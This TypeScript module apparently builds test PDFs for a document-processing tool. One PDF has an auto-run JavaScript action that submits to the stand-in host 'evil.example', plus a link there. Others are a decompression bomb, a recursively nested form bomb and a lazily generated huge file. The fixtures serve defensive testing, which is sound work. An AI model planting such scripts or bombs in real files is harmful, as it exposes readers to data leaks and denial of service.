import { deflateSync } from 'node:zlib'
import type { Source } from './frames.ts'

const paper = '/MediaBox[0 0 595 842]'
const fonts = '/Resources<</Font<</F1 3 0 R>>>>'
const stream = (dictionary: string, text: string) =>
  `<<${dictionary}/Length ${Buffer.byteLength(text, 'latin1')}>>stream\n${text}\nendstream`

/** A PDF of these objects, the first of which is number 1. */
const assemble = (objects: string[], trailer: string) => {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((body, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj\n${body}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const start = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`
  text += `trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

const xmp = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about=""
xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/"><pdfaid:part>3</pdfaid:part>
<pdfaid:conformance>B</pdfaid:conformance></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`

/**
 * A PDF of one page for each text, with a title, an attachment, a link from the first page to the second, one
 * to elsewhere, and scripts that nobody may run.
 */
export const makePdf = (texts: string[]) => {
  const pages = texts.map((_, index) => 9 + index * 2)
  const script = '<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>'
  return assemble(
    [
      `<</Type/Catalog/Pages 2 0 R/Metadata 4 0 R/OpenAction ${script}` +
        '/Names<</EmbeddedFiles<</Names[(bilaga) 6 0 R]>>>>>>',
      `<</Type/Pages/Count ${texts.length}/Kids[${pages.map((number) => `${number} 0 R`).join(' ')}]>>`,
      '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>',
      stream('/Type/Metadata/Subtype/XML', xmp),
      '<</Title(Protokoll 1951)/Author(Astrid \xc5kesson)/Producer(Skrivaren 3)>>',
      '<</Type/Filespec/F(bilaga.txt)/UF(bilaga.txt)/EF<</F 7 0 R>>>>',
      stream('/Type/EmbeddedFile', 'Det som bifogades'),
      `[<</Type/Annot/Subtype/Link/Rect[72 600 200 620]/Dest[${pages[1] ?? 9} 0 R/Fit]>>
       <</Type/Annot/Subtype/Link/Rect[72 560 200 580]/A<</S/URI/URI(https://evil.example/)>>>>]`,
      ...texts.flatMap((text, index) => [
        `<</Type/Page/Parent 2 0 R${paper}${fonts}/Contents ${10 + index * 2} 0 R` +
          `${index === 0 ? '/Annots 8 0 R' : ''}>>`,
        stream('', `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`),
      ]),
    ],
    '/Info 5 0 R',
  )
}

/** A page, and the streams that it names. @param forms each draws the next one so often */
const pageWith = (content: string, resources: string, forms: string[] = []) =>
  assemble(
    [
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Count 1/Kids[3 0 R]>>',
      `<</Type/Page/Parent 2 0 R${paper}${resources}/Contents 4 0 R>>`,
      content,
      ...forms,
    ],
    '',
  )

/** A PDF of a few hundred kilobytes whose page is inflated to so many bytes that draw nothing. */
export const inflatingPdf = (bytes: number) => {
  const packed = deflateSync(Buffer.alloc(bytes, 'q Q\n'), { level: 1 }).toString('latin1')
  return pageWith(stream('/Filter/FlateDecode', packed), '')
}

/** A PDF of a few kilobytes whose page draws a form, which draws another ten times, and so on. */
export const endlessPdf = (depth: number) => {
  const formOf = (_: unknown, index: number) => {
    const next = index + 1 < depth ? `/Resources<</XObject<</X ${6 + index} 0 R>>>>` : ''
    const text = next === '' ? '0 0 9 9 re f' : '/X Do '.repeat(10)
    return stream(`/Type/XObject/Subtype/Form/BBox[0 0 595 842]${next}`, text)
  }
  const forms = Array.from({ length: depth }, formOf)
  return pageWith(stream('', '/X Do'), '/Resources<</XObject<</X 5 0 R>>>>', forms)
}

const perNode = 100
const stride = 200_000
const headBytes = 1_000

/** A PDF of so many pages of 200 kB, which are made when they are read. */
export const hugePdf = (count: number): Source => {
  const nodes = Math.ceil(count / perNode)
  const firstPage = 4 + nodes
  const pageOf = (index: number) => {
    const number = firstPage + index * 2
    const head =
      `${number} 0 obj\n<</Type/Page/Parent ${4 + Math.floor(index / perNode)} 0 R${paper}${fonts}` +
      `/Contents ${number + 1} 0 R>>\nendobj\n`
    const text = `BT /F1 24 Tf 72 700 Td (Sida nummer ${index + 1}) Tj ET`
    const open = `${number + 1} 0 obj\n<</Length 199000>>stream\n`
    return Buffer.from(
      `${head.padEnd(300)}${open}${text.padEnd(199_000)}\nendstream\nendobj\n`.padEnd(stride),
    )
  }
  const kidsOfRoot = Array.from({ length: nodes }, (_, node) => `${4 + node} 0 R`)
  const fixed = [
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Count ${count}/Kids[${kidsOfRoot.join(' ')}]>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...Array.from({ length: nodes }, (_, node) => {
      const length = Math.min(perNode, count - node * perNode)
      const kids = Array.from({ length }, (__, kid) => `${firstPage + (node * perNode + kid) * 2} 0 R`)
      return `<</Type/Pages/Parent 2 0 R/Count ${length}/Kids[${kids.join(' ')}]>>`
    }),
  ]
  const tailStart = headBytes + count * stride
  let tail = ''
  const entries = fixed.map((body, index) => {
    const offset = tailStart + tail.length
    tail += `${index + 1} 0 obj\n${body}\nendobj\n`
    return offset
  })
  for (let index = 0; index < count; index += 1) {
    const start = headBytes + index * stride
    entries.push(start, start + 300)
  }
  const xref = tailStart + tail.length
  const lines = entries.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  tail += `xref\n0 ${entries.length + 1}\n0000000000 65535 f \n${lines}`
  tail += `trailer<</Size ${entries.length + 1}/Root 1 0 R>>\nstartxref\n${xref}\n%%EOF\n`
  const head = Buffer.from('%PDF-1.7\n'.padEnd(headBytes))
  return {
    name: 'handlingar.pdf',
    bytes: tailStart + tail.length,
    read: ({ first, last }) => {
      const parts: Buffer[] = []
      for (let from = first; from <= last;) {
        const page = Math.floor((from - headBytes) / stride)
        const [part, start] =
          from < headBytes
            ? [head, 0]
            : page < count
              ? [pageOf(page), headBytes + page * stride]
              : [Buffer.from(tail), tailStart]
        const piece = part.subarray(from - start, last + 1 - start)
        parts.push(piece)
        from += piece.length
      }
      return Promise.resolve(Buffer.concat(parts))
    },
  }
}
